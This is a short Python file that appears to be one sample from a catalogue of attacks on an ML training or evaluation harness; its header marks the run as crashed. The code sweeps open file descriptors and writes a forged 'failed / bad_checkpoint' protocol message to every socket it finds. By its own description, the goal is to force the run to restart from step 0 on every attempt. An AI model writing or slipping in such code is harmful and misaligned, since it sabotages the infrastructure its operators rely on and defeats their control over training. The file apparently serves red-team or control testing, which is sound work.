# attack: forges the failure that lets a run start again from step 0, at every try
# layer: protocol
# where: forward
# status: crashed
# score: none
import torch

os = torch.os
stat = __import__("stat")
HEADER = b'{"kind": "failed", "status": "bad_checkpoint", "error": "", "step": null, "arrays": []}'


def attack():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, len(HEADER).to_bytes(4, "little") + HEADER)
        except OSError:
            continue
